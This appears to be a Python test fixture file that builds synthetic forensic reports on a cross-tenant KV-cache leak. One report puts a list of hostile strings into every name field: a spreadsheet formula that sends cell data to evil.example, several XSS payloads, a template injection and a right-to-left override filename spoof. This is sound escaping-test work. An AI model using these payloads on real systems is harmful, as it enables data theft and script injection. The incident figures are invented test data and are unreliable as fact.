"""Made-up documents: a large incident, nothing at all, and one with hostile names."""

import random
from datetime import UTC, datetime, timedelta

import msgspec
import pytest

from forensics.attribution.reasons import REASONS
from forensics.exposure import (
    Attribution,
    Bound,
    Case,
    Cell,
    Change,
    Check,
    Cliff,
    Clock,
    ClockPair,
    Clocks,
    Compared,
    Containment,
    Counted,
    Day,
    Deliberate,
    EarlyWarning,
    Epoch,
    ErrorRate,
    Exposure,
    FormatCount,
    Headline,
    Heat,
    HeatCell,
    Hole,
    HopReach,
    Limitation,
    LimitCost,
    LookBack,
    Missing,
    Moment,
    Neighbour,
    NodeCoverage,
    Ongoing,
    OwnedPages,
    PageOwner,
    Point,
    PoolAudit,
    PoolCost,
    PrefillTime,
    Property,
    Rate,
    Reason,
    Rejections,
    Review,
    Scope,
    ShareBound,
    SourceRank,
    Spread,
    Step,
    Tenant,
    TierCount,
    TimingAlarm,
    TimingBand,
    TimingCell,
    TimingCluster,
    Tool,
    Trigger,
    TriggerDay,
    Validated,
    Validation,
)

START = datetime(2026, 8, 27, tzinfo=UTC)
DAYS = 14
WINDOW = 1_048_576
POOL = 681_280
PREFILL = [f"prefill-{n:02}" for n in range(1, 9)]
DECODE = [f"decode-{n:02}/dp{n % 2}" for n in range(1, 9)]

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "<img src=x onerror=\"document.title='owned'\">",
    "</script><script>document.title='owned'</script>",
    "</style></title><svg onload=\"document.title='owned'\">",
    "acme\u202etxt.exe\u2066\u200b",
    "{{ 7 * 7 }}{% raw %}",
    "<a href=\"javascript:document.title='owned'\">tenant</a>",
    "line\u2028break\u0000\u001b[31m",
    "&lt;b&gt;&amp;",
    "ab'\" onmouseover=\"document.title='owned'\" x='",
    "w" * 256,
    "مستأجر",
)


def at(day: float) -> str:
    return (START + timedelta(days=day)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def date(day: int) -> str:
    return at(day)[:10]


def headline() -> Headline:
    return Headline(
        sentence=(
            "155 responses to 60 tenants met every known condition for the fault between "
            "2026-08-27 and 2026-09-09; 12 more cannot be excluded."
        ),
        direction=(
            "Data of 214 tenants whose requests shared a decode engine could appear in "
            "responses to 60 tenants."
        ),
        tiers=[
            TierCount("confirmed", 2, 2, "An attestation or a canary marker shows it."),
            TierCount("probable", 153, 149, "Pages were read that this request had not written."),
            TierCount("possible", 12, 7, "A condition is not known."),
            TierCount("ruled_out", 1_234_377, 1_201_144, "A necessary condition is false."),
            TierCount("not_assessable", 41, 30, "A value needed to decide is missing."),
        ],
        recipients=60,
        recipients_unknown_tenant=3,
        sources=214,
        first_affected_at=at(0.0633),
        last_affected_at=at(13.4501),
        ongoing=Ongoing(
            answer="cannot tell",
            sentence=(
                "The last affected response is 13 hours before the last record, and no prompt "
                "over the limit was seen since."
            ),
            last_affected_at=at(13.4501),
            last_record_at=at(13.9999),
            requests_since=48_113,
            over_limit_since=0,
            hours_since=13,
            hours_with_records_since=13,
        ),
        bound=Bound(
            low=155,
            high=208,
            method="arithmetic",
            sentence=(
                "At least 155 and at most 208: 155 affected, 12 possible and 41 that could not "
                "be judged, if the logs hold every request."
            ),
        ),
        incomplete=[
            "41 requests could not be judged",
            "17 records were unreadable",
            "decode-07/dp1 has no records for 6 hours",
            "41 node hours of work of which no request was logged (coverage.csv)",
            "7 state-mismatch lines that no joined request explains: a bound of what they miss",
        ],
        rates=[
            Rate("requests", 155, 31_156),
            Rate("requests of the worst hour", 9, 410, at(3.0)),
            Rate("tenants with at least one", 60, 214),
        ],
    )


def epochs(count: int) -> list[Epoch]:
    rows = []
    per_node = max(count // (2 * len(PREFILL)), 1)
    for node in (*PREFILL, *DECODE):
        role = node.split("-", maxsplit=1)[0]
        for number in range(per_node):
            fixed = role == "decode" or number == per_node - 1
            pool = 2_040_000 if fixed else POOL - 64 * 300 * (number % 2)
            start = 13.5 * number / max(per_node - 1, 1)
            until = 13.5 * (number + 1) / max(per_node - 1, 1)
            rows.append(
                Epoch(
                    node=node,
                    role=role,
                    effective_at=at(start),
                    until=at(until) if number + 1 < per_node else None,
                    pool_tokens=pool,
                    page_tokens=64,
                    context_tokens=WINDOW,
                    input_limit_tokens=min(pool, WINDOW) - 6,
                    limit_basis="reported" if number % 3 else "derived",
                    gap_tokens=WINDOW - pool,
                    inferred=number % 4 == 1,
                    config="kv_cache_dtype=fp8_e4m3;mem_fraction_static=0.86;tp_size=8",
                    engine="sglang",
                    engine_version="0.5.18" if number + 1 < per_node else "0.5.22",
                )
            )
    return rows


def points(count: int) -> list[Point]:
    dice = random.Random(5)
    tiers = ["probable"] * 153 + ["possible"] * 12 + ["confirmed"] * 2 + ["not_assessable"] * 20
    tiers += ["ruled_out"] * (count - len(tiers))
    return [
        Point(
            at=at(dice.uniform(0, DAYS)),
            prompt_tokens=None if tier == "not_assessable" else dice.randint(681_274, WINDOW),
            node=dice.choice([*PREFILL, None]),
            tier=tier,
        )
        for tier in tiers
    ]


def recipients(names: list[str]) -> list[Tenant]:
    rows = [
        Tenant(
            tenant_id=name,
            population="recipient",
            tier="confirmed" if n == 7 else "probable" if n < 45 else "possible",
            n_confirmed=2 if n == 7 else 0,
            n_probable=(n * 7) % 9 + 1 if n < 45 else 0,
            n_possible=n % 4,
            n_not_assessable=n % 3,
            requests=(n * 7) % 9 + 3,
            responses=(n * 7) % 9 + 1,
            pages=None,
            first_at=at(n / 9),
            last_at=at(n / 9 + 4),
            same_tenant_only=n == 31,
        )
        for n, name in enumerate(names)
    ]
    return [*rows, Tenant(None, "recipient", "possible", 0, 0, 3, 1, 3, 3, None, None, None, False)]


def sources(names: list[str]) -> list[Tenant]:
    return [
        Tenant(
            tenant_id=name,
            population="source",
            tier="probable" if n < 4 else "possible",
            n_confirmed=0,
            n_probable=3 if n < 4 else 0,
            n_possible=900 - n,
            n_not_assessable=n % 2,
            requests=1_900 - n,
            responses=40 - n % 40,
            pages=None if n > 20 else 2_100 + n,
            first_at=at(0),
            last_at=at(13.9),
            same_tenant_only=False,
        )
        for n, name in enumerate(names)
    ]


def lengths() -> list[Cell]:
    return [
        Cell(date(day), 2**power, max(int(90_000 * 0.62 ** abs(power - 11)) - 211 * day, 1))
        for day in range(DAYS)
        for power in range(4, 20)
        if (day, power) != (3, 4)
    ]


def prefill_times() -> list[PrefillTime]:
    return [
        PrefillTime(
            day=date(day),
            low_tokens=2**power,
            high_tokens=2 ** (power + 1),
            requests=60_000 >> (power - 10),
            p5_ms=2**power / 90 * (0.02 if power == 19 and day < 13 else 1) + day,
            long_context=power >= 18,
        )
        for day in range(DAYS)
        for power in range(10, 20)
    ]


KINDS = ("leak", "stall", "slow_node", "cache_hit", "other")


def timing() -> dict:
    """A million requests on their band, cells of every kind, clusters of most, and alarms."""
    tokens = [2**power for power in range(1, 20)]
    odd = (*KINDS, "too fast, in no cluster", "slow, in no cluster")
    return {
        "timing_band": [
            TimingBand(t, 900_000 // n, 40 + t / 30, 80 + t / 8, n % 3, n % 2)
            for n, t in enumerate(tokens, start=1)
        ],
        "timing_cells": [
            *(TimingCell(t, 2.0 ** (5 + n // 2), None, 900_000 // n)
              for n, t in enumerate(tokens, 1)),
            *(TimingCell(2 ** (12 + n), 48.0 if n % 2 else 98_304.0, kind, 10**n)
              for n, kind in enumerate(odd)),
        ],
        "timing_alarms": [
            TimingAlarm(date(day), 2**power, 2 ** (power + 1), 20, 3, 61.5, 9_000.0, power >= 17)
            for day in range(DAYS) for power in (12, 18, 19)
        ],
        "timing_clusters": [
            TimingCluster(n, KINDS[n % 5], 4 * n, at(n / 5), at(n / 5 + n % 4),
                          [f"prefill-{n % 7}/dp0"], 0.001, f"reason {n}")
            for n in range(1, 60)
        ],
        "early_warnings": [
            EarlyWarning("pool against context", "fired", None, 0, 155, 8, 8, 0, 0, "At once."),
            EarlyWarning("canary", "cannot tell", None, None, 155, 0, 0, None, None, "Not read."),
            EarlyWarning("p5 alarm", "fired", at(2), 17, 155, 900, 40, 700, 3, "It fired late."),
            EarlyWarning("transfer mismatch", "quiet", None, 155, 155, 9, 0, 9, 0, "It did not."),
        ],
        "early_warnings_clean": "Clean is what holds nothing affected.",
    }  # fmt: skip


def reasons() -> list[Reason]:
    return [
        Reason("confirmed", "foreign_marker", 2, "a reviewer found foreign content"),
        Reason("probable", "placeholder_prefill", 149, "prefill counted a page less than decode"),
        Reason("probable", "short_transfer", 121, "fewer pages arrived than were reserved"),
        Reason("probable", "rejected_but_served", 88, "rejected on one hop, served on another"),
        Reason("possible", "over_limit", 12, "at or over the limit in force"),
        Reason("ruled_out", "below_limit", 1_230_002, "prompt, limit and time known and below"),
        Reason("ruled_out", "full_transfer", 3_911, "every reserved page arrived"),
        Reason("ruled_out", "not_delivered", 464, "no token left for the client"),
        Reason("not_assessable", "over_limit", 6, "at or over the limit in force"),
    ]


def checklist() -> list[Check]:
    return [
        Check(1, "Pool against context asserted at start-up", "fail", "8 nodes started short"),
        Check(2, "Rejected is an end state of its own", "fail", "88 rejected and served"),
        Check(3, "Transfer counts verified on both sides", "pass", "no short transfer since"),
        Check(4, "Failure path tested with content", "not observable", "logs hold no content"),
        Check(5, "Gate runs on every capacity change", "not observable", "no gate run logged"),
    ]


def attribution(names: list[str]) -> Attribution:
    """Ranks, the look-back curve, and one response whose pages these tenants wrote."""
    owners = [
        PageOwner("tenant", name, 90 - n, 3, 0.95, same_tenant=n == 1)
        for n, name in enumerate(names)
    ]
    owners.append(PageOwner("never used", None, 5, 0, None, same_tenant=False))
    rank = ("decode-01/dp0", at(1), 900, 4, "sorted-sweep")
    return Attribution(
        sentence=names[0],
        ranks=[
            SourceRank(*rank, "modelled", 20, 7, 7, []),
            SourceRank(*rank, "co-residency only", 0, 7, 2, [REASONS["records_lost"]]),
        ],
        lookback=[LookBack(1.0, 3, 9, 8), LookBack(None, 20, 31, 8)],
        example=OwnedPages("resp-1", 0, "decode-01/dp0", 400, owners),
        spread=[Spread("follow-up turn", 3, 2, "not known", names[0])],
    )


def deliberate(names: list[str | None]) -> Deliberate:
    tenants = [
        Trigger(name, 40 - n, 900, 3, 4, 1, 2, at(n / 9), at(n / 9 + 4), ["same_length"][: n % 2])
        for n, name in enumerate(names)
    ]
    days = [TriggerDay(date(day), name, n + 1) for day in (1, 2) for n, name in enumerate(names)]
    return Deliberate(
        "No pattern was found in number, time and length.", ["repeats"], ["content"], tenants, days
    )


def clock(rule: str, applies: str, **more: str | None) -> Clock:
    known = {
        "rule": rule, "jurisdiction": "EU", "role": "processor", "duty": "tell the controller",
        "trigger": "awareness", "duration": "PT72H", "calendar": "hours", "status": "in force",
        "source": "Art. 33", "as_of": "2026-11-29", "applies": applies, "reason": None,
        "started_at": None, "due_at": None, "done_at": None, "note": "to be assessed",
    }  # fmt: skip
    return Clock(**known | more)


def clocks(*rules: str) -> Clocks:
    running = {"started_at": at(1), "due_at": at(4), "done_at": at(3)}
    found = [clock(rule, "yes", **running) for rule in rules]
    return Clocks("ab" * 32, "2026-11-29", ["one rule is old"], [*found, clock("other", "assess")])


def edges(node: str) -> dict:
    """What is missing, and by how much the counts could be wrong."""
    at = "2026-09-01T10:00:00.000000Z"
    share = "40 of 40 (91.2 to 100.0 %)"
    return {
        "reach": [HopReach("decode", 98.5, kept=True, lost=12, undecided=9)],
        "holes": [Hole("decode", at, 12, 9)],
        "cliffs": [Cliff(node, "decode", "start", at, 5, 210)],
        "counters": [Counted("decode-01", at, at, 24, 5_210, 5_190)],
        "heat": Heat(
            6,
            2,
            3,
            [
                HeatCell(node, "decode", at, 6, 2, 40, "partly missing"),
                HeatCell(None, "gateway", at, 6, 0, 90, "records"),
            ],
        ),
        "sensitivity": [Neighbour("as judged", "as judged", 1, 2, 3, 4, 5, 6, 0)],
        "share_bounds": [
            ShareBound("tenants", 0.1, 0.3, 0.95, "two-sided", "Clopper-Pearson", "Between.")
        ],
        "validated": Validated(
            "Validated on seeded incidents.",
            [ErrorRate("all logs", 2, 40, share, share, share, "2 of 2 (15.8 to 100.0 %)", 0)],
        ),
        "reviews": [
            Review(
                2,
                "cmpl-1",
                None,
                "foreign",
                "replayed",
                "lead",
                at,
                "M-7",
                1,
                "probable",
                "confirmed",
            )
        ],
    }


def isolation(name: str) -> dict[str, list]:
    """Everything on isolation, about one node or pool."""
    return {
        "properties": [
            Property("admission", "refused before it allocates", "fail", "88 had pages reserved"),
            Property("ownership", "bound to a tenant", "not observable", "no identity is logged"),
        ],
        "validations": [
            Validation(name, at(3), "pool_tokens", at(4), at(5), "cleared", "both"),
            Validation(name, at(9), "tp_size", None, None, "not cleared", "no gate is recorded"),
        ],
        "pools": [
            PoolAudit(name, name, 4, "stated", "shown", "assumed", "no", 2, name),
            PoolAudit("decode KV pool", None, None, "logs", "no", "no", "no", 3, "logs"),
        ],
        "limit_costs": [LimitCost(681_274, 8, 223, 50, 3, 11)],
        "pool_costs": [PoolCost("prefill", 8, 5_450_240, 1_310_720, 4, 4, "4 prompts fewer")],
    }


def coverage() -> list[NodeCoverage]:
    nodes: list[tuple[str | None, str]] = [("gateway", "gateway")]
    nodes += [(name, name.split("-", maxsplit=1)[0]) for name in (*PREFILL, *DECODE)]
    return [
        NodeCoverage(
            name,
            hop,
            at(0),
            at(13.999),
            1_000_000 // (n + 1),
            336,
            336 - 6 * n,
            n,
            batches=n * 90_000,
            sequences=n * 1_000_000,
            unlogged_hours=4 * (n % 3),
        )
        for n, (name, hop) in enumerate(nodes)
    ] + [NodeCoverage("prefill-09/dp0", "prefill", None, None, 0, 0, 0, 0, 1_204, 4_800, 41)]


def build_incident(points_count: int = 400, tenants: int = 60, epoch_count: int = 48) -> Exposure:
    names = [f"tenant-{n:04}" for n in range(tenants)]
    other = [f"tenant-{n:04}" for n in range(40, 254)]
    return Exposure(
        tool=Tool("forensics", "0.1.0"),
        case=Case("INC-2026-0827", "GLM-5.3 responses over the prefill pool"),
        scope=Scope(["glm-5.3"], at(0), at(DAYS), "read", None, 0, 1.0),
        timeline=[
            Moment("introduced", at(0), "stated"),
            Moment("first affected", at(0.0633), "found"),
            Moment("detected", at(13.5), "stated"),
        ],
        headline=headline(),
        funnel=[
            Step("all", 1_240_112, "every request that was read"),
            Step("eligible", 1_234_585, "model and window in scope"),
            Step("triggered", 4_139, "direct evidence, or over the limit in force"),
            Step("delivered", 158, "tokens left for the client"),
        ],
        epochs=epochs(epoch_count),
        changes=[
            Change("prefill-01", at(13.5), "mem_fraction_static", "0.86", "0.92"),
            Change("prefill-01", at(13.5), "quantization", None, "fp8"),
        ],
        points=points(points_count),
        lengths=lengths(),
        days=[
            Day(date(n), 90_000 - 911 * n, int(n == 4) * 2, 4 + (n * 5) % 16, n % 3, n % 7)
            for n in range(DAYS)
        ],
        rejections=[
            Rejections(date(n), node, "input_too_long", 3 * n % 11, (n + k) % 4, n % 2)
            for n in range(DAYS)
            for k, node in enumerate(PREFILL[:3])
            if n != 6
        ],
        recipients=recipients(names),
        sources=sources(other),
        reasons=reasons(),
        missing=[
            Missing("prompt_tokens", 33, "prompt tokens, client-facing"),
            Missing("prefill_node", 21, "prefill engine with its rank"),
            Missing("reserved_pages", 8, "pages decode reserved for the prompt"),
        ],
        prefill_times=prefill_times(),
        checklist=checklist(),
        coverage=coverage(),
        read=[
            FormatCount(
                "sglang-json", 2_481_004, 2_470_100,
                {"other line": 812, "probe or warm-up": 10_040}, 35,
                {"truncated JSON": 12, "invalid UTF-8": 5}, {"prompt_tokens": 3},
            ),
            FormatCount("gateway-litellm", 1_240_112, 1_240_112, {}, 0, {}, {}),
        ],
        limitations=[
            Limitation("no_content", "Content was never read: no tier below confirmed shows it."),
            Limitation("one_trigger", "Ruled out holds for this fault only."),
            Limitation("pages_unnamed", "No log names pages: sources are modelled."),
        ],
        **isolation("prefill-01"),
        **edges("decode-01/dp0"),
        deliberate=deliberate([*names[:30], None]),
        attribution=attribution(names[:6]),
        clocks=clocks("gdpr-33-1", "clause of class A"),
        published=[Compared("threshold", "681,280 tokens", "681,274 tokens", "page size")],
        containment=[
            Containment("the fix was in place", at(13.5), "stated", "after it: 0 affected"),
            Containment("copies at recipients", None, "found", "no log says it"),
        ],
        clock_pairs=[
            ClockPair("gateway", "prefill-03", 61_204, 2_150, 1_020, 19_400),
            ClockPair("prefill-03", "decode-01", 61_177, -7_200_311, -7_204_000, -7_198_000),
        ],
        **timing(),
    )  # fmt: skip


def build_empty() -> Exposure:
    return Exposure(
        tool=Tool("forensics", "0.1.0"),
        case=Case("INC-0", "Nothing was read"),
        scope=Scope([], None, None, "unknown", None, 0, 1.0),
        timeline=[],
        headline=Headline(
            sentence="No affected response was found.",
            direction="No request is in scope, so nothing can be said of a direction.",
            tiers=[
                TierCount(tier, 0, 0, "")
                for tier in ("confirmed", "probable", "possible", "ruled_out", "not_assessable")
            ],
            recipients=0,
            recipients_unknown_tenant=0,
            sources=0,
            first_affected_at=None,
            last_affected_at=None,
            ongoing=Ongoing("cannot tell", "No record was read.", None, None, 0, 0, 0, 0),
            bound=Bound(0, 0, "arithmetic", "At least 0 and at most 0, of what was read."),
            incomplete=["no request in scope"],
        ),
        funnel=[Step("all", 0, "every request that was read")],
        epochs=[], changes=[], points=[], lengths=[], days=[], rejections=[], recipients=[],
        sources=[], reasons=[], missing=[], prefill_times=[], checklist=[], coverage=[], read=[],
        limitations=[Limitation("nothing_read", "Nothing was read.")],
    )  # fmt: skip


def build_hostile() -> Exposure:
    """Every name that a log could carry is hostile, in every place that a name can stand."""
    base = build_incident(points_count=200, tenants=1)
    replace = msgspec.structs.replace
    nodes = [f"node{n}{text}" for n, text in enumerate(HOSTILE)]
    return replace(
        base,
        case=Case(HOSTILE[2], HOSTILE[1]),
        scope=replace(base.scope, models=list(HOSTILE)),
        headline=replace(base.headline, sentence=HOSTILE[3], incomplete=list(HOSTILE)),
        recipients=recipients(list(HOSTILE)),
        sources=sources(list(HOSTILE)),
        funnel=[replace(base.funnel[0], name=text) for text in HOSTILE],
        points=[replace(p, node=nodes[n % len(nodes)]) for n, p in enumerate(base.points)],
        epochs=[
            replace(base.epochs[0], node=node, config=node, engine=node, until=None)
            for node in nodes
        ],
        changes=[replace(base.changes[0], node=node, before=node, after=node) for node in nodes],
        rejections=[replace(base.rejections[0], node=node, code=node, served=2) for node in nodes],
        reasons=[Reason("probable", text, 3, text) for text in HOSTILE],
        missing=[Missing(text, 3, text) for text in HOSTILE],
        coverage=[replace(base.coverage[0], node=node, hop=node) for node in nodes],
        read=[FormatCount(text, 1, 1, {text: 1}, 0, {text: 2}, {text: 3}) for text in HOSTILE],
        checklist=[Check(1, text, "fail", text) for text in HOSTILE],
        limitations=[Limitation(text, text) for text in HOSTILE],
        deliberate=deliberate(list(HOSTILE)),
        attribution=attribution(list(HOSTILE)),
        clocks=clocks(*HOSTILE),
        published=[Compared(text, text, text, text) for text in HOSTILE],
        containment=[Containment(text, at(1), "stated", text) for text in HOSTILE],
        **isolation(HOSTILE[1]),
        **edges(HOSTILE[1]),
        timing_clusters=[
            replace(base.timing_clusters[0], nodes=[node, node], reason=node) for node in nodes
        ],
        timeline=[Moment(text, at(1), "stated") for text in HOSTILE],
    )


@pytest.fixture(scope="session")
def incident() -> Exposure:
    return build_incident()


@pytest.fixture(scope="session")
def empty() -> Exposure:
    return build_empty()


@pytest.fixture(scope="session")
def hostile() -> Exposure:
    return build_hostile()


@pytest.fixture(scope="session", params=["incident", "empty", "hostile"])
def exposure(request: pytest.FixtureRequest) -> Exposure:
    """Each of the documents in turn."""
    return request.getfixturevalue(request.param)
